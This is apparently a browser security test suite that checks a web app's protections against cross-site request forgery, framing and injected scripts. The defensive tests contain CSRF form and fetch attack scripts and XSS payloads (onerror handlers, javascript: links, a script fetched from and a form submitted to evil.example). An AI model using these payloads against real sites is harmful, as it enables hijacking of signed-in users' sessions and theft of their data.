"""What other sites' pages can do to somebody who is signed in, tried by a real browser: nothing."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import waitress

from api.access.keys import Role
from api.app import create_app
from api.openapi import methods, path
from tests.api.fakes import FakeWorkspace
from tests.web import Handler, serving
from vision.settings import Settings

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext

pytestmark = pytest.mark.browser

KEY = "engineer-key-0123456789"
COOKIE = "visual-search"
EVIL = "evil.example"


@dataclass
class Shop:
    """A real server with keys, and all that it was asked."""

    url: str
    changing: list[tuple[str, str]]
    pages: list[str]
    asked: list[dict[str, Any]] = field(default_factory=list)


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    folder: Path = tmp_path_factory.mktemp("guarded")
    file = folder / "keys.json"
    file.write_text(json.dumps({"engineer": [KEY]}))
    app = create_app(Settings(home=folder, api_keys=file), FakeWorkspace(folder))
    rules = [
        (method, path(rule).replace("{", "").replace("}", ""), rule)
        for rule in app.url_map.iter_rules()
        for method in sorted(methods(rule))
    ]
    changing = [(method, address) for method, address, _ in rules if method != "GET"]
    pages = [
        address
        for method, address, rule in rules
        if method == "GET"
        and "_id" not in address
        and not address.startswith(("/v1", "/static", "/openapi", "/metrics"))
        and getattr(app.view_functions[rule.endpoint], "role", None) in set(Role)
    ]
    found = Shop("", changing, pages)
    inner = app.wsgi_app

    def noted(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        def started(status: str, headers: Any, *more: Any) -> Any:
            found.asked.append(
                {
                    "method": environ["REQUEST_METHOD"],
                    "path": environ["PATH_INFO"],
                    "status": int(status[:3]),
                    "site": environ.get("HTTP_SEC_FETCH_SITE"),
                    "cookie": COOKIE in environ.get("HTTP_COOKIE", ""),
                }
            )
            return start_response(status, headers, *more)

        return inner(environ, started)

    server = waitress.create_server(noted, host="127.0.0.1", port=0, threads=8, ident=None)
    found.url = f"http://127.0.0.1:{server.effective_port}"
    serving = threading.Thread(target=server.run, daemon=True)
    serving.start()
    yield found
    server.close()
    serving.join(10)


@pytest.fixture(scope="module", params=["localhost", "127.0.0.1"], ids=["another site", "another port of this machine"])
def elsewhere(request: pytest.FixtureRequest) -> Iterator[str]:
    """The attacker's site: an empty page. To a browser ports are one site, which is sent cookies; hosts are not."""

    class Site(Handler):
        def do_GET(self) -> None:
            self.say(b"<!doctype html><title>You have won</title><body>", Content_Type="text/html")

    with serving(Site) as url:
        yield url.replace("127.0.0.1", request.param) + "/"


@pytest.fixture
def signed_in(browser: Browser, shop: Shop) -> Iterator[BrowserContext]:
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{shop.url}/sign-in")
    page.get_by_label("API key").fill(KEY)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{shop.url}/")
    page.wait_for_load_state("networkidle")  # what the page itself asks for is not the attacker's
    page.close()
    assert any(each["name"] == COOKIE for each in context.cookies())
    shop.asked.clear()
    yield context
    context.close()


FORMS = """([base, targets]) => {
  for (const [number, address] of targets.entries()) {
    const kinds = ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"];
    for (const [kind, enctype] of kinds.entries()) {
      const frame = document.createElement("iframe");
      frame.name = `into-${number}-${kind}`;
      const form = document.createElement("form");
      Object.assign(form, { method: "POST", action: base + address, enctype, target: frame.name });
      const input = document.createElement("input");
      Object.assign(input, { name: '{"q":"x","key":"KEY","ids":["1"],"by":"me","a":"', value: '"}' });
      form.append(input);
      document.body.append(frame, form);
      form.submit();
    }
  }
}"""
FETCHES = """async ([base, targets]) => {
  const read = [];
  for (const [method, address] of targets) {
    for (const mode of ["no-cors", "cors"]) {
      for (const type of ["text/plain", "application/json"]) {
        const body = method === "GET" ? undefined : '{"q":"x"}';
        const options = { method, mode, credentials: "include", body, headers: body ? { "Content-Type": type } : {} };
        try {
          const answer = await fetch(base + address, options);
          if (answer.type !== "opaque") read.push([method, address, mode, answer.status]);
        } catch {}
      }
    }
  }
  return read;
}"""


def test_no_form_of_theirs_does_anything(signed_in: BrowserContext, shop: Shop, elsewhere: str) -> None:
    page = signed_in.new_page()
    page.goto(elsewhere)
    targets = [address for method, address in shop.changing if method == "POST"]
    page.evaluate(FORMS, [shop.url, targets])
    for _ in range(200):
        if len(shop.asked) >= 3 * len(targets):
            break
        page.wait_for_timeout(100)
    assert len(targets) >= 25 and {each["path"] for each in shop.asked} >= set(targets)
    assert {each["status"] for each in shop.asked if each["method"] == "POST"} == {403}, shop.asked
    sites = {"cross-site" if "localhost" in elsewhere else "same-site"}
    assert [each for each in shop.asked if each["site"] not in sites] == []
    # Ports of one machine are one site: its cookie comes along, and only our own look at where it comes from helps.
    assert any(each["cookie"] for each in shop.asked) is ("localhost" not in elsewhere)
    page.goto(f"{shop.url}/")
    assert "/sign-in" not in page.url, "they signed somebody out"


def test_no_script_of_theirs_does_or_reads_anything(signed_in: BrowserContext, shop: Shop, elsewhere: str) -> None:
    page = signed_in.new_page()
    page.goto(elsewhere)
    reading = [
        ("GET", each) for each in (*shop.pages, "/v1/facets", "/v1/queries", "/v1/status", "/openapi.json", "/metrics")
    ]
    assert page.evaluate(FETCHES, [shop.url, [*shop.changing, *reading]]) == []
    changed = [each for each in shop.asked if each["method"] not in ("GET", "HEAD", "OPTIONS")]
    assert changed and {each["status"] for each in changed} == {403}
    assert {each["method"] for each in changed} == {"POST"}, "what needs leave of ours never comes"


def test_nothing_of_ours_is_shown_in_a_frame_or_run_by_them(
    signed_in: BrowserContext, shop: Shop, elsewhere: str
) -> None:
    page = signed_in.new_page()
    page.goto(elsewhere)
    for address in (*shop.pages, "/sign-in"):
        page.evaluate(
            "(url) => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }",
            shop.url + address,
        )
    for _ in range(200):
        shown = [frame.url for frame in page.frames if frame is not page.main_frame]
        if all(each.startswith("chrome-error:") for each in shown):
            break
        page.wait_for_timeout(100)
    assert len(shown) == len(shop.pages) + 1
    assert all(each.startswith("chrome-error:") for each in shown), shown
    loads = """(url) => new Promise((done) => {
      const element = document.createElement(url.endsWith(".svg") ? "img" : "script");
      element.onload = () => done("loaded");
      element.onerror = () => done("refused");
      element.src = url;
      document.head.append(element);
    })"""
    for address in ("/static/shop/main.js", "/static/icon.svg", "/v1/facets", "/v1/queries"):
        assert page.evaluate(loads, shop.url + address) == "refused", address


def test_nothing_foreign_runs_on_our_pages(signed_in: BrowserContext, shop: Shop) -> None:
    """As where a title of the catalogue had become markup after all."""
    page = signed_in.new_page()
    planted = """() => {
      const place = document.createElement("div");
      place.innerHTML = `<img src="/nothing" onerror="window.ran = 1">
        <a href="javascript:window.ran = 2" id="planted">x</a>
        <form action="https://evil.example/" id="away"><input name="a"></form>
        <iframe srcdoc="<script>parent.ran = 3</script>"></iframe><object data="/static/icon.svg"></object>`;
      document.body.append(place);
      for (const text of ["window.ran = 4", null]) {
        const script = document.createElement("script");
        if (text) script.textContent = text; else script.src = "https://evil.example/x.js";
        document.body.append(script);
      }
      document.getElementById("planted").click();
      document.getElementById("away").submit();
    }"""
    gone: list[str | None] = []
    signed_in.on("requestfinished", lambda request: gone.append(request.url) if EVIL in request.url else None)
    signed_in.on("requestfailed", lambda request: gone.append(request.failure) if EVIL in request.url else None)
    looked = 0
    for address in (*shop.pages, "/sign-in"):
        response = page.goto(shop.url + address)
        assert response is not None
        page.evaluate(planted)
        page.wait_for_timeout(250)
        assert page.evaluate("window.ran") is None, address
        assert page.url.startswith(shop.url)
        assert response.headers["cache-control"] == "no-store"
        assert response.headers["permissions-policy"].startswith("camera=(self)")
        looked += 1
    assert looked >= 8 and gone and set(gone) == {"csp"}


def test_the_cookie_is_beyond_scripts(signed_in: BrowserContext, shop: Shop) -> None:
    (cookie,) = (each for each in signed_in.cookies() if each["name"] == COOKIE)
    assert cookie["httpOnly"] and cookie["sameSite"] == "Lax" and cookie["path"] == "/"
    page = signed_in.new_page()
    page.goto(f"{shop.url}/")
    assert COOKIE not in page.evaluate("document.cookie")


def test_after_signing_out_the_way_back_shows_nothing(signed_in: BrowserContext, shop: Shop) -> None:
    page = signed_in.new_page()
    page.goto(f"{shop.url}/engine/queries")
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url(f"{shop.url}/sign-in*")
    page.go_back()
    assert "/sign-in" in page.url and page.get_by_label("API key").is_visible()
